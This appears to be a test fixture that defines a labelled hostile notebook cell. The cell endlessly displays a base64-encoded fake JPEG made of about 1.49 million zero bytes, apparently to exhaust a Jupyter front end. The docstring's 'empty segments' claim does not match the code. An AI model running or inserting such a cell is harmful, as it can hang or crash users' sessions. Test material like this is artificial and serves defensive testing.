"""Files that begin like a JPEG and hold nothing but half a million empty segments."""

HARMLESS = False
FLAW, TRICK = "V8", "none"
CELLS = {
    "count": """import base64
from IPython.display import display
jpeg = base64.b64encode(b"\\xff\\xd8" + bytes(1_490_000)).decode()
while True:
    display({"image/jpeg": jpeg}, raw=True)"""
}
